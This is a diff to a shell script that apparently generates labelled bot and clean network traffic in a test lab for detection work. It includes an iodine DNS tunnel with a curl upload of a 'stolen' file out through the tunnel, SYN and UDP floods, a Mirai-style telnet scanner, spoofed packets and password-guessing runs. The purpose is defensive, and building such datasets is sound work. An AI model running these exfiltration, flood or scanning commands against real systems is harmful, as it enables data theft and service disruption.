@@ -6,22 +6,25 @@ behaviours() {
   cat <<'LIST'
 mail_direct_rejected|bot|14|mail straight to 14 exchangers, most recipients refused
 mail_relay|clean|6|six letters through the relay of the ISP, ports 25 and 587
-mail_relay_flood|bot|300|300 mails through the relay of the ISP
+mail_relay_flood|bot|300|300 mails through the relay of the ISP, two a connection
+mail_exchangers|bot|12|questions for the mail exchangers of twelve names
 mail_list_host|clean|12|a small mail server at home, twelve mails to three peers
 dns_nxdomain|bot|64|64 generated names that do not exist, real ones between them
 dns_normal|clean|30|names as people and programs ask for them
-dns_tunnel|bot|1|iodine through the resolver, a download through the tunnel
+dns_tunnel|bot|1|iodine through the resolver, 40 kB carried out through the tunnel
 ssh_failed_logins|bot|16|16 wrong passwords at an SSH server
 ssh_normal|clean|4|four logins by key, data both ways
 ftp_failed_logins|bot|16|16 wrong passwords at an FTP server
 telnet_failed_logins|bot|16|16 wrong passwords at a telnet server
 tls_hellos|clean|9|TLS clients with and without server name and ALPN
-syn_flood|bot|3000|3000 SYNs to one open port, never completed
+syn_flood|bot|6000|6000 SYNs to one open port that soon has no room for more, never completed
 udp_flood|bot|5000|5000 datagrams to one address
 open_resolver|bot|300|long answers to strangers who ask again and again
 spoofed_sources|bot|200|200 packets in the names of others
-scan_telnet|bot|512|nmap looks for telnet at 256 addresses
-scan_answered|clean|100|nmap on the ports of one own server
+scan_telnet|bot|272|nmap looks for telnet at 256 addresses
+scan_mirai|bot|60|SYNs to telnet at 60 addresses, each with the address as its sequence number
+scan_answered|clean|100|nmap on 100 ports of one own server
+scan_own_server|clean|1000|nmap on 1000 ports of one own server
 web_browsing|clean|24|pages over HTTP and HTTPS from six sites
 voice_rtp|clean|200|four seconds of voice both ways
 ntp_client|clean|3|chrony asks the clock of the ISP
@@ -44,7 +47,8 @@ behave_mail_relay() {
   ours submit $relay 25 3 1
   ours submit $relay 587 3 3
 }
-behave_mail_relay_flood() { ours submit $relay 25 300 50; }
+behave_mail_relay_flood() { ours submit $relay 25 300 2; }
+behave_mail_exchangers() { ours exchangers {peer,www.site}{1,2,3,4,5,6}.example; }
 behave_mail_list_host() {
   at_home python3 - <<'PY'
 import smtplib
@@ -73,7 +77,7 @@ behave_dns_tunnel() {
   fi
   within "$name" timeout 60 iodine -f -r -P tunnel -m 900 -L 0 -I 1 $resolver t.tunnel.example &
   until_true 20 within "$name" ip route get 172.31.255.1 oif dns0
-  at_home curl -sS -m 25 --retry 3 --retry-all-errors -o /dev/null http://172.31.255.1:8080/picture.jpg
+  at_home curl -sS -m 40 --retry 3 --retry-all-errors -o /dev/null -T /var/www/stolen http://172.31.255.1:8080/
   kill $!
 }
 
@@ -116,9 +120,10 @@ behave_tls_hellos() {
   at_home gnutls-cli --insecure --alpn http/1.1 --sni-hostname eight.example --port 443 198.18.44.44 </dev/null
 }
 
-behave_syn_flood() { ours syn_flood "$address" 198.18.80.6 "$(mac_of "$number")" $gateway_mac 3000; }
+behave_syn_flood() { ours syn_flood "$address" 198.18.80.7 "$(mac_of "$number")" $gateway_mac 6000; }
 behave_udp_flood() {
-  raw_packets --udp --source-ip "$address" --dest-port 9999 --data-length 512 --rate 2500 -c 5000 198.18.99.99
+  raw_packets --udp --source-ip "$address" --source-port 40000 --dest-port 9999 --data-length 512 --rate 2500 \
+    -c 5000 198.18.99.99
 }
 behave_open_resolver() {
   within world timeout 30 python3 -W ignore $run/clients.py amplify "$address" 300 198.18.66.{1,2,3}
@@ -132,11 +137,16 @@ behave_spoofed_sources() {
 }
 
 behave_scan_telnet() {
-  # A quarter silent, half "host unreachable", a quarter there: telnet answers, 2323 is closed.
-  at_home nmap -sS -n -Pn -p 23,2323 -T4 --max-retries 0 --max-rate 60 --host-timeout 20s \
-    198.19.0.0/26 198.19.200.0/25 198.18.200.0/26
+  # Nearly half silent, half "host unreachable", and sixteen there: telnet answers, 2323 is closed.
+  local as_a_bot=(at_home nmap -sS -n -Pn -T4 --randomize-hosts --max-retries 0 --max-rate 10 --host-timeout 50s)
+  "${as_a_bot[@]}" -p 23 198.19.0.0/26 198.19.64.0/27 198.19.96.0/28 198.19.200.0/25 198.18.200.0/28
+  "${as_a_bot[@]}" -p 2323 198.18.200.0/28
 }
+# Written by ourselves from what was published about Mirai's scanner: nobody shares a capture of it.
+behave_scan_mirai() { ours mirai "$address" "$(mac_of "$number")" $gateway_mac 60; }
 behave_scan_answered() { at_home nmap -sT -n -Pn -T4 -p 1-98,443,8080 198.18.80.1; }
+# Slower than a flood, on however slow a machine.
+behave_scan_own_server() { at_home nmap -sS -n -Pn -T4 --max-rate 150 -p 1-1000 198.18.80.2; }
 
 behave_web_browsing() {
   local site page scheme
